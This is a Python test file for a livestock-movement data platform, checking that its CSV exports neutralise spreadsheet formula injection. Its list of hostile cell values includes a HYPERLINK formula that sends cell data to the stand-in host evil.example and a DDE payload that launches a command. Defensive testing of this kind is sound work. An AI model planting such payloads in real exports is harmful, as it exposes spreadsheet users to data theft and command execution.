"""Formula injection: every CSV the platform writes shows a would-be formula as text.

Through the real HTTP server and the real command line: the rejects file of an upload and
the contact-tracing list; and, as a property, the one writer they share.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.engine import Engine

from pigdata.access.principal import Role
from pigdata.access.tokens import create_token
from pigdata.config import Settings
from pigdata.csvout import FORMULA_TRIGGERS, neutralise, writer

from tests.builders import FARM_A, RONGCHANG_TOWN, district, ingest, movement, premises

# What an attacker puts into a cell. The readers strip a cell's surrounding blanks, so the
# tab and carriage-return cases reach the files as the formula after them.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"fix")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
SHOWN = ["'" + cell.strip() for cell in HOSTILE]  # what the spreadsheet must be given
HEADER = (
    "certificate_no,certificate_type,issue_date,origin,destination,head_count,purpose,"
    "vehicle_plate,carrier"
)


def hostile_upload(path: Path) -> Path:
    """Give a movements file whose rows are all refused, each carrying one hostile cell."""
    out = io.StringIO()
    rows = csv.writer(out)
    rows.writerow(HEADER.split(","))
    for n, cell in enumerate(HOSTILE):
        # An unregistered destination: refused, so the row comes back in the rejects file.
        rows.writerow(
            [
                f"50000009{n:02d}",
                "B",
                "2024-05-01",
                FARM_A,
                "5001539999",
                "5",
                "slaughter",
                "渝B12345",
                cell,
            ]
        )
    rows.writerow(
        [
            "5000000999",
            "B",
            "2024-05-01",
            FARM_A,
            "5001539999",
            "-5",
            "slaughter",
            "渝B12345",
            "王五",
        ]
    )
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def carriers(text: str) -> list[str]:
    return [row["carrier"] for row in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))]


def test_the_rejects_file_over_http_and_the_command_line(
    server: str, engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    from tests.cli.test_commands import run

    ingest(engine, settings, district())
    admin = create_token(engine, "admin", Role.admin).secret
    path = hostile_upload(tmp_path / "moves.csv")
    with httpx.Client(base_url=server, headers={"Authorization": f"Bearer {admin}"}) as api:
        with path.open("rb") as handle:
            sent = api.post("/api/v1/uploads", files={"file": (path.name, handle, "text/csv")})
        result = sent.json()
        assert result["rejected"] == len(HOSTILE) + 1
        download = api.get(result["rejects_csv"])
    assert download.status_code == 200
    expected = [*SHOWN, "王五"]
    assert carriers(download.text) == expected
    heads = [
        r["head_count"] for r in csv.DictReader(io.StringIO(download.text.removeprefix("\ufeff")))
    ]
    assert heads[-1] == "-5"  # a plain negative number stays a number
    out = tmp_path / "rejects.csv"
    run(settings, "rejects", str(result["upload_id"]), "-o", str(out))
    assert carriers(out.read_text(encoding="utf-8-sig")) == expected


def test_the_contact_tracing_list_over_http_and_the_command_line(
    server: str, engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    from tests.cli.test_commands import run

    names = HOSTILE[:4]
    places = [f"50015300{20 + n}" for n in range(len(names))]
    records = [premises(FARM_A, RONGCHANG_TOWN)]
    records += [
        premises(code, RONGCHANG_TOWN, name=name) for code, name in zip(places, names, strict=True)
    ]
    records += [
        movement(f"50000001{n:02d}", FARM_A, code, "2024-06-01") for n, code in enumerate(places)
    ]
    assert ingest(engine, settings, records).rejected == 0
    admin = create_token(engine, "admin", Role.admin).secret
    params = {"until": "2024-06-10", "days": 30, "format": "csv"}
    with httpx.Client(base_url=server, headers={"Authorization": f"Bearer {admin}"}) as api:
        text = api.get(f"/api/v1/animal-health/trace/{FARM_A}", params=params).text
    shown = {row["premises"]: row["name"] for row in csv.DictReader(io.StringIO(text))}
    wanted = dict(zip(places, SHOWN[:4], strict=True))
    assert shown == wanted
    out = tmp_path / "contacts.csv"
    run(settings, "health", "trace", FARM_A, "--until", "2024-06-10", "--csv", str(out))
    with out.open(encoding="utf-8") as handle:
        assert {row["premises"]: row["name"] for row in csv.DictReader(handle)} == wanted


@given(st.text())
def test_no_written_cell_starts_a_formula(cell: str) -> None:
    written = neutralise(cell)
    assert written in (cell, "'" + cell)
    if written.startswith(FORMULA_TRIGGERS):  # only a plain number is let through
        float(written)
    buffer = io.StringIO()
    writer(buffer).writerow([cell, -5, None])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [written, "-5", ""]


def test_numbers_stay_numbers() -> None:
    for plain in ("-5", "+3", "-0.25", "-1e3", ".5", "12"):
        assert neutralise(plain) == plain
    for formula in ("-", "+", "-A1", "-1-1", "-5 ", "=5", "@5", "-inf", "-1e3+A1"):
        assert neutralise(formula) == "'" + formula
